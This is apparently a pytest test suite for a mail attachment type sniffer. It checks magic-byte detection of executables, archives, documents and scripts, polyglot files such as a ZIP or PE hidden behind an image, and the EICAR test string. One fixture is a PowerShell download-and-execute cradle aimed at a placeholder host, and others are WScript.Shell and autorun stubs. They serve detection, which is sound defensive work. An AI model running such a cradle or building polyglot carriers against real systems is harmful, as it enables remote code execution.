"""What a content is by its bytes: every kind, two formats in one, and what only looks like it."""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import lzma
import random
import struct
import tarfile
import wave
import zipfile
import zlib
from pathlib import Path

import pytest

from mailkit.attachments.plain import is_text
from mailkit.attachments.signatures import SIGNATURES
from mailkit.attachments.textual import HINTS, TYPES, tell
from mailkit.attachments.types import sniff
from tests.timing import assert_linear, flood

PAYLOAD = b"MAILKIT-BENIGN-LOOKALIKE-PAYLOAD"
EICAR = b"X5O!P%@AP[4" + b"\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!" + b"$H+H*"
PE = (
    b"MZ"
    + bytes(58)
    + b"\x80\0\0\0"
    + b"This program cannot be run in DOS mode.".ljust(64, b"\0")
    + b"PE\0\0\x4c\x01"
    + PAYLOAD
)
JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0" + b"\x55\xaa\x33" * 40 + b"\xff\xd9"
GIF = b"GIF89a\x01\0\x01\0\x80\0\0" + bytes(6) + b",\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"
BMP = b"BM" + struct.pack("<IHHIIiiHH", 58, 0, 0, 54, 40, 1, 1, 1, 24) + bytes(28)
PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\nstartxref\n9\n%%EOF\n"
ISO = bytes(32_768) + b"\x01CD001\x01\0" + bytes(2_040)
LNK = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(56)
DER = b"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\xa0\x80"


def png(extra: bytes = b"") -> bytes:
    """Make a picture of one dot."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + extra + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")


def zipped(
    name: str = "a.txt", content: bytes = PAYLOAD, method: int = zipfile.ZIP_STORED, comment: bytes = b""
) -> bytes:
    """Make a ZIP of one file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr(name, content)
        archive.comment = comment
    return out.getvalue()


def tarred(name: str = "a.txt", content: bytes = PAYLOAD, form: int = tarfile.USTAR_FORMAT) -> bytes:
    """Make a tar of one file."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=form) as archive:
        info = tarfile.TarInfo(name)
        info.size = len(content)
        archive.addfile(info, io.BytesIO(content))
    return out.getvalue()


def wav() -> bytes:
    """Make a sound of nothing."""
    out = io.BytesIO()
    with wave.open(out, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(1)
        sound.setframerate(8_000)
        sound.writeframes(bytes(80))
    return out.getvalue()


OLD_TAR = bytearray(tarred())
OLD_TAR[257:265] = bytes(8)
OLD_TAR[148:156] = b"%06o\0 " % (sum(OLD_TAR[:148]) + 256 + sum(OLD_TAR[156:512]))

BINARY: dict[str, tuple[bytes, str]] = {
    "PE": (PE, "pe"),
    "MZ and little else": (b"MZ" + bytes(62) + PAYLOAD, "pe"),
    "MZ, four bytes": (b"MZ\x90\0", "pe"),
    "ZM": (b"ZM\x90\0\3", "pe"),
    "PE behind blanks": (b"\r\n \n" + PE, "pe"),
    "PE in base64": (base64.encodebytes(PE), "pe"),
    "PE as certutil writes it": (b"-----BEGIN CERTIFICATE-----\r\n" + base64.encodebytes(PE), "pe"),
    "ELF": (b"\x7fELF\x02\x01\x01" + bytes(20), "elf"),
    "Mach-O": (b"\xcf\xfa\xed\xfe\x07\0\0\x01", "macho"),
    "Mach-O, several": (b"\xca\xfe\xba\xbe\0\0\0\x02\x01\0\0\x07", "macho"),
    "Java class": (b"\xca\xfe\xba\xbe\0\0\0\x34\0\x1d", "class"),
    "Java class, a preview": (b"\xca\xfe\xba\xbe\xff\xff\0\x41\0\x1d", "class"),
    "DEX": (b"dex\n035\0" + bytes(8), "dex"),
    "Python bytecode": (b"\xa7\x0d\r\n" + bytes(12) + b"\xe3", "pyc"),
    "Flash": (b"CWS\x0a\x00\x10\0\0\x78\x9c", "swf"),
    "CHM": (b"ITSF\x03\0\0\0\x60\0\0\0", "chm"),
    "RPM": (b"\xed\xab\xee\xdb\x03\0\0\0", "rpm"),
    "xar": (b"xar!\0\x1c\0\x01" + bytes(20), "xar"),
    "LNK": (LNK, "lnk"),
    "ZIP": (zipped(), "zip"),
    "ZIP, empty": (b"PK\5\6" + bytes(18), "zip"),
    "ZIP behind junk": (b"\xfe\x01" * 50 + zipped(), "zip"),
    "ZIP behind text": (b"see below\n" + zipped(), "zip"),
    "gzip": (gzip.compress(b"x"), "gzip"),
    "bzip2": (bz2.compress(b"x"), "bz2"),
    "bzip2, empty": (bz2.compress(b""), "bz2"),
    "xz": (lzma.compress(b"x"), "xz"),
    "lzma": (lzma.compress(b"x", lzma.FORMAT_ALONE), "lzma"),
    "zstd": (b"\x28\xb5\x2f\xfd\x24\x01", "zst"),
    "LZ4": (b"\x04\x22\x4d\x18\x64\x40", "lz4"),
    "compress": (b"\x1f\x9d\x90x", "z"),
    "7z": (b"7z\xbc\xaf\x27\x1c\0\4", "7z"),
    "RAR 4": (b"Rar!\x1a\7\0\xcf\x90s", "rar4"),
    "RAR 5": (b"Rar!\x1a\7\1\0\x33\x92", "rar5"),
    "CAB": (b"MSCF\0\0\0\0\x44\0\0\0", "cab"),
    "LHA": (b"\x20\x55-lh5-\x10\0\0\0", "lzh"),
    "ARJ": (b"\x60\xea\x2b\0\x22\x0b\1\x0b\x10\0\2\0", "arj"),
    "ACE": (b"\x12\x34\x31\0\0\0\x90**ACE**\x14", "ace"),
    "zoo": (b"ZOO 2.10 Archive.\x1a\0\0\xdc\xa7\xc4\xfd", "zoo"),
    "ALZ": (b"ALZ\x01\x0a\0\0\0", "alz"),
    "EGG": (b"EGGA\0\1\0\0", "egg"),
    "tar": (tarred(), "tar"),
    "tar of GNU": (tarred(form=tarfile.GNU_FORMAT), "tar"),
    "tar, old": (bytes(OLD_TAR), "tar"),
    "tar whose first name begins as a program does": (tarred("MZ-2024/a.txt"), "tar"),
    "tar whose first name begins as a picture does": (tarred("BM"), "tar"),
    "cpio": (b"070701" + b"0" * 104 + b"a\0", "cpio"),
    "ar": (b"!<arch>\n" + b"a/".ljust(58) + b"`\n", "ar"),
    "SZDD": (b"SZDD\x88\xf0\x27\x33A\0", "szdd"),
    "ISO": (ISO, "iso"),
    "ISO that starts a computer": (b"\xeb\x63\x90" + bytes(507) + b"\x55\xaa" + ISO[512:], "iso"),
    "UDF": (bytes(32_768) + b"\0BEA01\1" + bytes(2_041), "udf"),
    "disk": (b"\xeb\x3c\x90mkfs.fat" + bytes(499) + b"\x55\xaa" + bytes(9_728), "fat"),
    "WIM": (b"MSWIM\0\0\0\xd0\0\0\0", "wim"),
    "VHD": (b"conectix\0\0\0\2", "vhd"),
    "VHD, fixed": (bytes(2_048) + b"conectix" + bytes(504), "vhd"),
    "VHDX": (b"vhdxfile" + bytes(16), "vhdx"),
    "DMG": (bytes(2_048) + b"koly\0\0\0\4" + bytes(504), "dmg"),
    "DMG that begins with bzip2": (bz2.compress(b"x" * 999) + b"koly\0\0\0\4" + bytes(504), "dmg"),
    "QCOW": (b"QFI\xfb\0\0\0\3", "qcow"),
    "PDF": (PDF, "pdf"),
    "PDF behind junk": (b"\x01\x02junk" + PDF, "pdf"),
    "PDF behind a blank line": (b"\r\n" + PDF, "pdf"),
    "PostScript": (b"%!PS-Adobe-3.0\n", "ps"),
    "OLE": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), "ole"),
    "RTF": (b"{\\rtf1\\ansi hi}", "rtf"),
    "RTF, cut short": (b"{\\rt0 hi}", "rtf"),
    "RTF behind blanks": (b"\n  {\\rtf1 hi}", "rtf"),
    "OneNote": (bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(16), "onenote"),
    "BIFF2": (b"\x09\0\4\0\2\0\x10\0", "biff"),
    "TNEF": (b"\x78\x9f\x3e\x22\1\0", "tnef"),
    "PST": (b"!BDN\0\0\0\0SM", "pst"),
    "Access": (b"\0\1\0\0Standard ACE DB\0", "mdb"),
    "SQLite": (b"SQLite format 3\0\x10\0", "sqlite"),
    "DjVu": (b"AT&TFORM\0\0\0\1DJVU", "djvu"),
    "MacBinary": (b"\0\4name".ljust(102, b"\0") + b"mBIN" + bytes(22), "macbinary"),
    "AppleDouble": (b"\0\5\x16\7\0\2\0\0", "applesingle"),
    "PKCS#7": (DER, "p7"),
    "PNG": (png(), "png"),
    "JPEG": (JPEG, "jpeg"),
    "GIF": (GIF, "gif"),
    "BMP": (BMP, "bmp"),
    "TIFF": (b"II*\0\x08\0\0\0", "tiff"),
    "WebP": (b"RIFF\x1a\0\0\0WEBPVP8 ", "webp"),
    "ICO": (b"\0\0\1\0\1\0\x10\x10\0\0\1\0\x20\0" + bytes(20), "ico"),
    "PSD": (b"8BPS\0\1" + bytes(20), "psd"),
    "EMF": (b"\1\0\0\0\x6c\0\0\0" + bytes(32) + b" EMF", "emf"),
    "WMF": (b"\xd7\xcd\xc6\x9a\0\0", "wmf"),
    "WAV": (wav(), "riff-wav"),
    "AVI": (b"RIFF\x1a\0\0\0AVI LIST", "avi"),
    "MP3": (b"\xff\xfb\x90\x64" + bytes(20), "mp3"),
    "MP3 with ID3": (b"ID3\4\0\0\0\0\0\x0a" + bytes(20), "mp3"),
    "MP4": (b"\0\0\0\x18ftypmp42\0\0\0\0", "mp4"),
    "Ogg": (b"OggS\0\2" + bytes(20), "ogg"),
    "FLAC": (b"fLaC\0\0\0\x22", "flac"),
    "MIDI": (b"MThd\0\0\0\6\0\1", "midi"),
    "FLV": (b"FLV\1\5\0\0\0\x09", "flv"),
    "Matroska": (b"\x1a\x45\xdf\xa3\x93", "mkv"),
    "a sound with the start of a script": (b"#!AMR\n\x3c\0\1", "amr"),
    "TrueType": (b"\0\1\0\0\0\x0c\0\x80\0\3\0\x40\0", "ttf"),
    "WOFF": (b"wOF2\0\1\0\0", "woff"),
}


@pytest.mark.parametrize(("data", "kind"), BINARY.values(), ids=BINARY)
def test_kinds(data: bytes, kind: str) -> None:
    found = sniff(data)
    assert found.kinds == (kind,)
    assert not found.polyglot


TEXTS: dict[str, tuple[bytes, str]] = {
    "shell": (b"#!/bin/sh\necho\n", "script"),
    "shell behind a mark": (b"\xef\xbb\xbf#!/bin/bash\n", "script"),
    "through env": (b"#! /usr/bin/env -S python3 -u\n", "script"),
    "with a drive": (b"#!C:\\Perl\\bin\\perl.exe\n", "script"),
    "WSF": (b"<?xml version='1.0'?>\n<job id='a'><script language='JScript'>\n</script></job>", "script"),
    "SCT": (b"<?XML version='1.0'?><scriptlet><registration/><script></script></scriptlet>", "script"),
    "batch": (b"@echo off\r\nrem nothing\r\n", "bat"),
    "batch without off": (b"@echo hi\r\n", "bat"),
    "batch, large": (b"\r\n@ECHO OFF\r\n", "bat"),
    "batch behind a mark that is none": (b"\xff\xfe&cls\r\n@echo off\r\n", "bat"),
    "VBScript": (b'\' nothing\r\nWScript.Echo "hi"\r\n', "vbs"),
    "VBScript, a call": (b'Set a = CreateObject("WScript.Shell")\r\n', "vbs"),
    "VBScript in UTF-16": ("\ufeffWScript.Echo 1".encode("utf-16-le"), "vbs"),
    "VBScript, encoded": (b"#@~^CgAAAA==\x6d\x64\x7f", "vbs"),
    "JScript": (b"var a = new ActiveXObject('WScript.Shell');\n", "js"),
    "PowerShell": (b"IEX (New-Object Net.WebClient).DownloadString('http://a.example/')\n", "ps1"),
    "HTA": (b"<html><head><HTA:APPLICATION ID='a'></head></html>", "hta"),
    "page": (b"<!DOCTYPE html>\n<html></html>", "html"),
    "page behind a comment": (b"<!-- saved -->\n<html></html>", "html"),
    "page behind a mark": (b"\xef\xbb\xbf  <HTML>", "html"),
    "page in UTF-16": ("<html><body>".encode("utf-16"), "html"),
    "page, a piece": (b"<script>1</script>", "html"),
    "page in XML": (b'<?xml version="1.0"?><!DOCTYPE html PUBLIC "a" "b"><html xmlns="c">', "html"),
    "SVG": (b'<svg xmlns="http://www.w3.org/2000/svg"/>', "svg"),
    "SVG behind all": (b'<?xml version="1.0"?>\n<!-- a -->\n<!DOCTYPE svg [<!ENTITY a ">">]>\n<svg/>', "svg"),
    "SVG with a prefix": (b'<?xml version="1.0"?><s:svg xmlns:s="http://www.w3.org/2000/svg"/>', "svg"),
    "XML": (b'<?xml version="1.0"?><invoice/>', "xml"),
    "XML, undeclared": (b"<invoice><total>1</total></invoice>", "xml"),
    "mht": (
        b"From: <Saved by a browser>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related;\r\n\tboundary=a\r\n\r\n",
        "mht",
    ),
    "mail": (b"Received: by a\nFrom: a@b\nTo: c@d\nSubject: e\nDate: f\n\nhi\n", "eml"),
    "mail from an mbox": (b"From a@b Thu Jan  1 00:00:00 1970\nMessage-ID: <a>\nFrom: a@b\nDate: c\n\nhi\n", "eml"),
    "appointment": (b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\n", "ics"),
    "card": (b"begin:vcard\r\nversion:3.0\r\n", "vcf"),
    "SYLK": (b"ID;PWXL;N;E\r\nC;X1;Y1\r\n", "slk"),
    "query": (b"WEB\r\n1\r\nhttps://a.example/\r\n", "iqy"),
    "shortcut": (b"[InternetShortcut]\r\nURL=https://a.example/\r\n", "url"),
    "shortcut, second": (b"[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,11\r\n[InternetShortcut]\r\n", "url"),
    "starter": (b"# a\n[Desktop Entry]\nExec=a\n", "desktop"),
    "registry": ("\ufeffWindows Registry Editor Version 5.00\r\n".encode("utf-16-le"), "reg"),
    "registry, old": (b"REGEDIT4\r\n\r\n", "reg"),
    "setup": (b'; a\r\n[Version]\r\nSignature="$Windows NT$"\r\n', "inf"),
    "autorun": (b"[autorun]\r\nopen=a.exe\r\n", "inf"),
    "PGP": (b"-----BEGIN PGP MESSAGE-----\n\n", "pgp"),
    "PKCS#7 in letters": (b"-----BEGIN PKCS7-----\nMII", "p7"),
    "uuencode": (b"begin 644 a.exe\n#0V%T\n`\nend\n", "uu"),
    "uuencode in base64": (b"begin-base64 644 a.exe\nTVo=\n====\n", "uu"),
    "yEnc": (b"=ybegin line=128 size=1 name=a\n", "yenc"),
    "BinHex": (b"(This file must be converted with BinHex 4.0)\n\n:", "binhex"),
    "JSON": (b'{\n  "a": 1\n}\n', "json"),
    "table": (b"a;b;c\n1;2;3\n", "csv"),
    "table with tabs": (b"a\tb\n1\t2\n", "csv"),
}


@pytest.mark.parametrize(("data", "kind"), TEXTS.values(), ids=TEXTS)
def test_kinds_of_text(data: bytes, kind: str) -> None:
    assert sniff(data).kinds == (kind,)
    told = tell(data)
    assert told is not None
    assert told.kind == kind


def test_the_interpreter_of_a_script_is_told() -> None:
    cases = {b"#!/bin/sh -e\n": "sh", b"#!/usr/bin/env python3\n": "python3", b"#!/usr/bin/env -S perl -w\n": "perl"}
    for data, name in cases.items():
        told = tell(data)
        assert told is not None
        assert (told.kind, told.detail) == ("script", name)


PLAIN = {
    "nothing": b"",
    "a blank": b" ",
    "a letter": b"M",
    "two letters": b"MZ",
    "a letter to M. Z.": b"MZ-2024: report on the meeting\n\nDear all,\n",
    "prose about scripts": b"Hello,\n\nput #!/bin/sh into the first line, then\n\n@echo off\n\nin the other.\n",
    "prose about pages": b"Hello,\n\nuse <html> and <script> here.\n",
    "prose about PDF": b"A file begins with %PDF-1.4 or so.\n",
    "prose about PDF, a line": b"A file begins so:\n%PDF-1.4\nand goes on.\n",
    "prose about ZIP": b"The last record begins with PK\\5\\6 or so: PK and the rest.\n",
    "prose about WScript": b"Dear all,\n\nplease do not use WScript.Shell any more.\n",
    "prose about EICAR": b"Send this line to test a scanner:\n\n" + EICAR + b"\n",
    "quoted mail": b"On Monday Bob wrote:\n> From: a@b\n> To: c@d\n",
    "forwarded by hand": b"From: Bob <a@b>\nSent: Monday\nTo: Ann\nSubject: hi\n\nSee below.\n",
    "patch": b"diff --git a/run.sh b/run.sh\n--- a/run.sh\n+++ b/run.sh\n@@ -1 +1 @@\n-#!/bin/sh\n+#!/bin/bash\n",
    "Makefile": b"all:\n\tgcc -o a a.c\n\n.PHONY: all\n",
    "C": b"#include <stdio.h>\nint main(void) { return 0; }\n",
    "Rust": b"#![allow(dead_code)]\nfn main() {}\n",
    "Python": b"import os\n\nprint(os.name)\n",
    "JavaScript of a page": b"const a = document.querySelector('b');\na.click();\n",
    "PHP in prose": b"Write <?php echo 1; ?> there.\n",
    "Texinfo": b"@set VERSION 1\n@titlepage\n",
    "style": b"@charset 'utf-8';\n@import 'a.css';\n",
    "log": b"Nov 26 01:02:03 host postfix/smtpd[1]: connect\nNov 26 01:02:04 host postfix/smtpd[1]: lost\n",
    "Markdown": b"# Title\n\n    #!/bin/sh\n    echo\n",
    "settings": b"[section]\nkey = value\n",
    "settings with a version": b"[version]\nnumber = 1\n",
    "CWS": b"CWS 2024\n\nThe conference on web science.\n",
    "xar!": b"xar! is what he said, and left.\n",
    "EGGA": b"EGGA is a club in town.\n",
    "LZIP": b"LZIP is a program that packs.\n",
    "BM": b"BM told me that it is fine.\n",
    "PK": b"PK has said so.\n",
    "070707": b"070707 is the number of the order; it is to be paid by Monday.\n",
    "Japanese": "これは\r\nペンです。\r\n".encode("iso2022_jp"),
    "Shift_JIS": "これはペンです。".encode("cp932"),
    "certificate": b"-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQsw\n",
    "base64 of a text": base64.encodebytes(b"MZ is a text and nothing else, that is all.\n" * 3),
    "an address": b"@home: 1 Main Street\n",
    "a greeting with a comma": b"Hello, Bob\nBye, Bob\n",
}


@pytest.mark.parametrize("data", PLAIN.values(), ids=PLAIN)
def test_plain_text_and_nothing(data: bytes) -> None:
    assert sniff(data) == ((), False, False)


def macbinary(content: bytes, mark: bytes = bytes(4)) -> bytes:
    """Make a file of a Macintosh."""
    head = bytearray(b"\0\5a.bin".ljust(128, b"\0"))
    head[83:87] = len(content).to_bytes(4, "big")
    head[102:106] = mark
    head[122:124] = b"\x81\x81"
    return bytes(head) + content


APPLE_SINGLE = struct.pack(">II16xHIIIIII", 0x51600, 0x20000, 2, 9, 50, 0, 1, 50, len(PE)) + PE

POLYGLOTS: dict[str, tuple[bytes, tuple[str, ...]]] = {
    "ZIP behind a JPEG": (JPEG + zipped(), ("jpeg", "zip")),
    "ZIP behind a JPEG and NULs": (JPEG + bytes(4_096) + zipped(), ("jpeg", "zip")),
    "ZIP with a comment behind a GIF": (GIF + zipped(comment=b"a" * 999), ("gif", "zip")),
    "ZIP behind a PNG": (png() + zipped(method=zipfile.ZIP_DEFLATED), ("png", "zip")),
    "ZIP behind a sound": (wav() + zipped(), ("riff-wav", "zip")),
    "ZIP behind a PDF": (PDF + zipped(), ("pdf", "zip")),
    "ZIP behind a page": (b"<html>hi</html>" + zipped(), ("html", "zip")),
    "ZIP behind a script": (b"#!/bin/sh\n" + zipped(), ("script", "zip")),
    "PDF in the beginning of a JPEG": (JPEG + PDF, ("jpeg", "pdf")),
    "PDF in the beginning of a GIF": (GIF[:-1] + PDF, ("gif", "pdf")),
    "PDF behind a page": (b"<html><!--\n" + PDF, ("html", "pdf")),
    "PDF behind a ZIP": (zipped() + PDF, ("zip", "pdf")),
    "page in a PDF": (PDF.replace(b"1 0 obj", b"%<html><script></script>\n1 0 obj"), ("pdf", "html")),
    "saved page in a PDF": (PDF + b"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=a\n", ("pdf", "mht")),
    "page in a PNG": (png(b"\0\0\0\x1atEXtComment\0<script></script>crc4"), ("png", "html")),
    "HTA behind a JPEG": (JPEG + b"<hta:application id=a>", ("jpeg", "html")),
    "script in a GIF": (b"GIF89a/*" + bytes(20) + b"*/=1;", ("gif", "js")),
    "assignment in a GIF": (b"GIF89a=1;//" + bytes(9), ("gif", "js")),
    "program in a BMP": (BMP + PE, ("bmp", "pe")),
    "program behind a PNG": (png() + PE, ("png", "pe")),
    "RAR behind a JPEG": (JPEG + b"Rar!\x1a\7\0\xcf\x90s" + bytes(99_999), ("jpeg", "rar4")),
    "7z behind a GIF": (GIF + b"7z\xbc\xaf\x27\x1c\0\4" + b"\1" * 99, ("gif", "7z")),
    "ZIP without a directory behind a GIF": (GIF + zipped()[:60], ("gif", "zip")),
    "ZIP and junk behind a JPEG": (JPEG + zipped() + b"junk" * 99, ("jpeg", "zip")),
    "program behind a PDF": (PDF + PE, ("pdf", "pe")),
    "PDF in a program": (PE + PDF, ("pe", "pdf")),
    "ISO in a PDF": (PDF.ljust(32_769, b"\n") + ISO[32_769:], ("pdf", "iso")),
}


@pytest.mark.parametrize(("data", "kinds"), POLYGLOTS.values(), ids=POLYGLOTS)
def test_two_formats_in_one(data: bytes, kinds: tuple[str, ...]) -> None:
    found = sniff(data)
    assert found.kinds == kinds
    assert found.polyglot


ONE: dict[str, tuple[bytes, tuple[str, ...]]] = {
    "a ZIP attached to a PDF": (PDF[:-40] + b"stream\n" + zipped() + b"\nendstream\nstartxref\n1\n%%EOF\n", ("pdf",)),
    "a PDF stored in a ZIP": (zipped("a.pdf", PDF), ("zip",)),
    "a PDF in a tar": (tarred("a.pdf", PDF), ("tar",)),
    "a program stored in a ZIP": (zipped("a.exe", PE), ("zip",)),
    "a ZIP stored in a ZIP": (zipped("a.zip", zipped()), ("zip",)),
    "a ZIP in a tar": (tarred("a.zip", zipped()), ("tar",)),
    "a ZIP last in an ar": (b"!<arch>\n" + b"a/".ljust(58) + b"`\n" + zipped(), ("ar",)),
    "a JPEG with a preview": (JPEG[:40] + JPEG + JPEG[40:], ("jpeg",)),
    "a JPEG with a film": (JPEG + b"\0\0\0\x18ftypmp42" + bytes(9_999), ("jpeg",)),
    "a PNG with something behind it": (png() + b"\1\2\3" * 999, ("png",)),
    "a JPEG that tells of itself": (JPEG + b"<?xpacket?><x:xmpmeta xmlns:x='adobe:ns:meta/'/>", ("jpeg",)),
    "a picture with the letters MZ": (BMP + b"MZ\0\0PE\0\0" + bytes(99), ("bmp",)),
    "a program in MacBinary": (macbinary(PE), ("macbinary", "pe")),
    "a program in MacBinary III": (macbinary(PE, b"mBIN"), ("macbinary", "pe")),
    "a ZIP in MacBinary": (macbinary(zipped()), ("macbinary", "zip")),
    "a text in MacBinary": (macbinary(PAYLOAD), ("macbinary",)),
    "a program in AppleSingle": (APPLE_SINGLE, ("applesingle", "pe")),
    "a program attached to a PDF": (PDF[:-40] + b"stream\n" + PE + b"\nendstream\nstartxref\n1\n%%EOF\n", ("pdf",)),
    "a ZIP at the end of a document": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + zipped(), ("ole",)),
    "a program that unpacks a ZIP": (PE + zipped(), ("pe", "zip")),
    "a program that unpacks a RAR": (PE + b"Rar!\x1a\7\1\0" + bytes(99), ("pe", "rar5")),
    "a program that unpacks a 7z": (PE + b"7z\xbc\xaf\x27\x1c\0\4" + bytes(99), ("pe", "7z")),
    "records of a ZIP without a directory": (JPEG + b"PK\5\6" + bytes(8) + b"\x09" + bytes(9), ("jpeg",)),
}


@pytest.mark.parametrize(("data", "kinds"), ONE.values(), ids=ONE)
def test_one_format_that_holds_another(data: bytes, kinds: tuple[str, ...]) -> None:
    found = sniff(data)
    assert found.kinds == kinds
    assert not found.polyglot


@pytest.mark.parametrize(
    ("data", "is_it"),
    [
        pytest.param(EICAR, True, id="alone"),
        pytest.param(EICAR + b" \t\r\n\x1a" * 12, True, id="white space behind"),
        pytest.param(b"\xef\xbb\xbf" + EICAR, True, id="behind a mark"),
        pytest.param(b"\r\n" + EICAR, True, id="behind a blank line"),
        pytest.param(EICAR.decode().encode("utf-16"), True, id="UTF-16"),
        pytest.param(b"x" + EICAR, False, id="behind a letter"),
        pytest.param(EICAR[:-1], False, id="cut"),
        pytest.param(EICAR.lower(), False, id="small"),
    ],
)
def test_eicar(data: bytes, *, is_it: bool) -> None:
    assert sniff(data).eicar is is_it


def test_there_are_signatures_enough_and_each_says_where_it_is_from() -> None:
    assert len(SIGNATURES) >= 120
    assert len({(one.magic, one.at, one.also) for one in SIGNATURES}) == len(SIGNATURES)
    for one in SIGNATURES:
        assert one.kind
        assert len(one.magic) >= 2
        assert one.source
        assert bool(one.also) == bool(one.also_at)


@pytest.mark.parametrize("data", [data for data, _ in (*BINARY.values(), *TEXTS.values(), *POLYGLOTS.values())][::2])
def test_every_prefix_and_changed_byte_is_taken(data: bytes) -> None:
    data = data[:1_500]
    for size in range(len(data)):
        sniff(data[:size])
    dice = random.Random(len(data))
    for _ in range(100):
        changed = bytearray(data)
        changed[dice.randrange(len(changed))] = dice.randrange(256)
        assert all(sniff(bytes(changed)).kinds)


def test_random_bytes_are_nothing() -> None:
    dice = random.Random(1)
    found = [sniff(dice.randbytes(dice.randrange(5_000))).kinds for _ in range(3_000)]
    assert sum(map(bool, found)) <= 30


@pytest.mark.parametrize(
    ("unit", "start"),
    [
        pytest.param(b"PK\5\6", JPEG, id="ends of a ZIP"),
        pytest.param(b"Rar!\x1a\7", JPEG, id="beginnings of a RAR"),
        pytest.param(b"MZ" + b"PE\0\0", BMP, id="programs"),
        pytest.param(b"<", b"GIF89a\1\0", id="brackets"),
        pytest.param(b"<!--", b"", id="comments"),
        pytest.param(b"<!doctype ", b"", id="types"),
        pytest.param(b"<?x?>", b"", id="instructions"),
        pytest.param(b"a: b\n", b"Received: c\n", id="fields"),
        pytest.param(b"a: b\n \n", b"", id="folded fields"),
        pytest.param(b"[version]\n", b"[a]\n", id="sections"),
        pytest.param(b" ", b"", id="blanks"),
        pytest.param(b"\0", b"", id="NULs"),
        pytest.param(b"/", b"#!", id="slashes"),
        pytest.param(b"%PDF-1", b"\1", id="PDF"),
        pytest.param(b"mime-version:", PDF, id="headers in a PDF"),
        pytest.param(b",", b"a\n", id="commas"),
    ],
)
def test_a_flood_takes_linear_time(unit: bytes, start: bytes) -> None:
    assert_linear(sniff, flood(unit, start))


def test_tables_name_kinds_that_texts_have() -> None:
    kinds = {kind for _, kind in TEXTS.values()}
    assert set(HINTS.values()) <= kinds
    assert set(TYPES.values()) <= kinds


def test_is_text() -> None:
    assert is_text("ä ü\t\r\n\x0c\x1b$B".encode())
    assert not is_text(b"a\0b")


@pytest.mark.parametrize("path", ["/bin/ls", "/bin/sh", "/usr/bin/env"])
def test_programs_of_the_machine(path: str) -> None:
    if not Path(path).is_file():
        pytest.skip(f"{path} is not there")
    assert sniff(Path(path).read_bytes()).kinds[0] in {"elf", "macho", "script"}


PAGE = "<html><body>words<script>go()</script></body></html>"


@pytest.mark.parametrize("codec", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
@pytest.mark.parametrize(
    "lead",
    [
        pytest.param(" \r\n" * 3_000, id="blanks"),
        pytest.param(" " * 9_001, id="an odd number of blanks"),
        pytest.param("<!--" + "x" * 9_000 + "-->", id="a comment"),
        pytest.param("<!--x-->\n" * 1_000, id="comments"),
        pytest.param("<?xml version='1.0'?>\n<!--" + "x" * 9_000 + "-->", id="a declaration and a comment"),
    ],
)
def test_what_stands_before_a_page_does_not_hide_it(lead: str, codec: str) -> None:
    assert sniff((lead + PAGE).encode(codec)).kinds == ("html",)


def test_a_comment_without_an_end_hides_nothing() -> None:
    assert tell(b"<!--" + b"x" * 9_000 + PAGE.encode()) is not None


@pytest.mark.parametrize("unit", [b" ", b"<!-- -->", b"<!--", b"\xef\xbb\xbf", b"<?xml>", b"\0"])
def test_long_beginnings_are_linear(unit: bytes) -> None:
    assert_linear(sniff, flood(unit, b"<?xml>"))
